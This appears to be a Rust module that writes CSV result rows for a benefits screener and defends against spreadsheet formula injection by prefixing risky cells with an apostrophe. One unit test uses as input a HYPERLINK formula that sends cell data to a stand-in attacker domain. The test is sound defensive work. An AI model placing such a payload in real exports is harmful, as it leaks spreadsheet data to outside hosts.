//! The result rows (SCREENING.md §10): a header row, then one row per data row, RFC 4180 with
//! LF line ends. A field is quoted exactly when it holds a comma, a double quote, CR or LF (a
//! quote inside doubled): what the `csv` crate's writer does with `QuoteStyle::Necessary`; a
//! test holds the two equal.
//!
//! A cell that a spreadsheet would run as a formula (one that begins with `=`, `+`, `-`, `@`, a
//! tab or a carriage return: `=HYPERLINK(…)` in an echoed `ref`) is written with a leading
//! apostrophe (`'=SUM(1)`), which spreadsheets read as "this is text" and do not show; nothing
//! else changes. Every cell that can hold text from outside the code (`ref`, the reasons, the
//! error's question and message) goes through [`cell`]; the others are ids, codes, versions and
//! dates, which never begin with those characters (a test holds every rulebook to that).

use screener::dates;
use screener::engine::Status;
use screener::sentences::{self, DateStyle};
use screener_contract::Screened;

use crate::caseload::RowResult;

/// The columns of a result row, in order.
pub const COLUMNS: [&str; 16] = [
    "row",
    "ref",
    "program",
    "version",
    "policy_status",
    "as_of",
    "outcome",
    "eligible_from",
    "rescreen_on",
    "transitions",
    "failed",
    "missing",
    "reasons",
    "error_code",
    "error_question",
    "error_message",
];

/// Appends the header row.
pub fn header(out: &mut Vec<u8>) {
    out.extend_from_slice(COLUMNS.join(",").as_bytes());
    out.push(b'\n');
}

/// Appends the result row of one data row.
pub fn row(result: &RowResult, out: &mut Vec<u8>) {
    let mut number = [0u8; 20];
    out.extend_from_slice(decimal(result.row, &mut number));
    out.push(b',');
    cell(out, &result.reference);
    match &result.outcome {
        Ok(screening) => {
            let mut text = String::with_capacity(256);
            screened(screening, &mut text);
            out.push(b',');
            out.extend_from_slice(text.as_bytes());
            // No error.
            out.extend_from_slice(b",,,\n");
        }
        Err(error) => {
            // Only `row`, `ref` and the error are filled.
            out.extend_from_slice(b",,,,,,,,,,,,");
            out.extend_from_slice(error.code.code().as_bytes());
            out.push(b',');
            cell(out, error.question.as_deref().unwrap_or(""));
            out.push(b',');
            cell(out, &error.message());
            out.push(b'\n');
        }
    }
}

/// `program` to `reasons` of a screening, quoted where needed, comma-separated; the reasons in
/// the row's voice, dates `YYYY-MM-DD`.
fn screened(screened: &Screened, out: &mut String) {
    let s = &screened.screening;
    // Ids, versions, codes and dates hold no comma, quote or line break.
    out.push_str(s.program.id);
    out.push(',');
    out.push_str(s.program.version);
    out.push(',');
    out.push_str(s.program.policy_status().code());
    out.push(',');
    dates::write_to(out, s.as_of);
    out.push(',');
    out.push_str(s.outcome.code());
    out.push(',');
    if let Some(date) = s.eligible_from {
        dates::write_to(out, date);
    }
    out.push(',');
    if let Some(date) = s.rescreen_on {
        dates::write_to(out, date);
    }
    out.push(',');
    for (i, t) in s.transitions.iter().enumerate() {
        if i > 0 {
            out.push_str("; ");
        }
        out.push_str(t.service);
        out.push(' ');
        dates::write_to(out, t.from);
        out.push_str("..");
        dates::write_to(out, t.until);
    }
    out.push(',');
    let failed = s.findings.iter().filter(|f| f.status == Status::Fail && f.criterion.kind().decides_outcome());
    for (i, f) in failed.enumerate() {
        if i > 0 {
            out.push(';');
        }
        out.push_str(f.criterion.id);
    }
    out.push(',');
    for (i, id) in s.missing.iter().enumerate() {
        if i > 0 {
            out.push(';');
        }
        out.push_str(id);
    }
    out.push(',');
    let mut reasons = String::with_capacity(256);
    for (i, f) in s.findings.iter().filter(|f| f.status != Status::Pass).enumerate() {
        if i > 0 {
            reasons.push_str(" | ");
        }
        reasons.push_str(&sentences::reason(s.program, f, screened.voice, DateStyle::Iso));
    }
    cell_str(out, &reasons);
}

/// `n` in decimal, in `buffer`.
fn decimal(mut n: u64, buffer: &mut [u8; 20]) -> &[u8] {
    let mut at = buffer.len();
    loop {
        at -= 1;
        buffer[at] = b'0' + (n % 10) as u8;
        n /= 10;
        if n == 0 {
            break;
        }
    }
    &buffer[at..]
}

fn needs_quotes(text: &str) -> bool {
    text.bytes().any(|b| matches!(b, b',' | b'"' | b'\r' | b'\n'))
}

/// Whether a spreadsheet would run a cell that begins with this text as a formula (SCREENING.md
/// §10): `=`, `+`, `-`, `@`, a tab or a carriage return first.
fn is_formula(text: &str) -> bool {
    matches!(text.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
}

/// Appends one field as RFC 4180 writes it: quoted when it must be, as it is otherwise.
pub fn field(out: &mut Vec<u8>, text: &str) {
    write_field(text, false, |part| out.extend_from_slice(part.as_bytes()));
}

/// Appends one cell of a result row: a [`field`], with an apostrophe first when a spreadsheet
/// would run it as a formula.
pub fn cell(out: &mut Vec<u8>, text: &str) {
    write_field(text, true, |part| out.extend_from_slice(part.as_bytes()));
}

/// [`cell`], onto a `String`.
fn cell_str(out: &mut String, text: &str) {
    write_field(text, true, |part| out.push_str(part));
}

/// A field as the pieces [`field`] (or, `neutral`, [`cell`]) appends, in order.
fn write_field(text: &str, neutral: bool, mut push: impl FnMut(&str)) {
    let apostrophe = if neutral && is_formula(text) { "'" } else { "" };
    if !needs_quotes(text) {
        push(apostrophe);
        push(text);
        return;
    }
    push("\"");
    push(apostrophe);
    for (i, part) in text.split('"').enumerate() {
        if i > 0 {
            push("\"\"");
        }
        push(part);
    }
    push("\"");
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What the csv crate's writer makes of one record (QuoteStyle::Necessary, LF).
    fn csv_crate(fields: &[&str]) -> Vec<u8> {
        let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::Any(b'\n')).from_writer(Vec::new());
        writer.write_record(fields).unwrap();
        writer.into_inner().unwrap()
    }

    fn ours(fields: &[&str]) -> Vec<u8> {
        let mut out = Vec::new();
        for (i, f) in fields.iter().enumerate() {
            if i > 0 {
                out.push(b',');
            }
            field(&mut out, f);
        }
        out.push(b'\n');
        out
    }

    #[test]
    fn fields_are_quoted_as_the_csv_crate_quotes_them() {
        let samples = [
            "",
            "plain",
            "a,b",
            "say \"hi\"",
            "\"",
            "line\nbreak",
            "cr\rhere",
            "crlf\r\n",
            " spaces ",
            "semi;colon | pipe",
            "tab\there",
            "ünïcödé, ¿sí?",
            "#hash",
            "'quote'",
        ];
        for a in samples {
            for b in samples {
                let fields = [a, b, "x"];
                assert_eq!(ours(&fields), csv_crate(&fields), "{fields:?}");
            }
        }
        let mut s = String::new();
        cell_str(&mut s, "a \"b\", c");
        assert_eq!(s, "\"a \"\"b\"\", c\"");
    }

    #[test]
    fn a_cell_a_spreadsheet_would_run_gets_an_apostrophe_first_and_nothing_else_changes() {
        let one = |text: &str| {
            let mut out = Vec::new();
            cell(&mut out, text);
            String::from_utf8(out).unwrap()
        };
        for (text, written) in [
            ("=SUM(1)", "'=SUM(1)"),
            ("+1", "'+1"),
            ("-2", "'-2"),
            ("@cmd", "'@cmd"),
            ("\tx", "'\tx"),
            ("\rx", "\"'\rx\""),
            (
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
                "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open\"\")\"",
            ),
            // Only the first character counts; an apostrophe already first is text already.
            (" =1", " =1"),
            ("a=b", "a=b"),
            ("'=1", "'=1"),
            ("", ""),
            ("2026-11-22", "2026-11-22"),
        ] {
            assert_eq!(one(text), written, "{text:?}");
        }
        // Quoted as the csv crate quotes the same text with its apostrophe; a plain field (the
        // input files of tests) is left as it is.
        for text in ["=a,b", "-\"x\"", "@\n", "+1"] {
            let mut out = Vec::new();
            cell(&mut out, text);
            out.push(b'\n');
            assert_eq!(out, csv_crate(&[&format!("'{text}")]), "{text:?}");
            assert_eq!(ours(&[text]), csv_crate(&[text]), "{text:?}");
        }
    }

    #[test]
    fn a_formula_ref_reason_or_message_is_neutralised_in_a_whole_row() {
        use screener_contract::{ContractError, ErrorCode, Problem};
        let error = ContractError {
            code: ErrorCode::InvalidAnswer,
            question: Some("=1+1".into()),
            problem: Problem::AnsweredTwice("=1+1".into()),
            lang: screener::model::Lang::En,
        };
        let result = RowResult { row: 1, reference: "=HYPERLINK(\"x\")".into(), outcome: Err(error) };
        let mut out = Vec::new();
        row(&result, &mut out);
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "1,\"'=HYPERLINK(\"\"x\"\")\",,,,,,,,,,,,invalid_answer,'=1+1,'=1+1 is answered twice\n"
        );
    }

    #[test]
    fn no_id_code_or_version_a_row_writes_unescaped_begins_as_a_formula() {
        for program in screener::rules::ALL {
            let mut unescaped = vec![program.id, program.version];
            unescaped.extend(program.questions.iter().map(|q| q.id));
            unescaped.extend(program.criteria.iter().map(|c| c.id));
            for text in unescaped {
                assert!(!text.is_empty() && !is_formula(text), "{}: {text:?}", program.id);
            }
        }
    }

    #[test]
    fn decimals() {
        let mut b = [0u8; 20];
        assert_eq!(decimal(0, &mut b), b"0");
        assert_eq!(decimal(1_000_000, &mut b), b"1000000");
        assert_eq!(decimal(u64::MAX, &mut b), u64::MAX.to_string().as_bytes());
    }

    #[test]
    fn the_header_has_the_columns_of_section_10() {
        let mut out = Vec::new();
        header(&mut out);
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "row,ref,program,version,policy_status,as_of,outcome,eligible_from,rescreen_on,transitions,failed,missing,reasons,error_code,error_question,error_message\n"
        );
    }
}
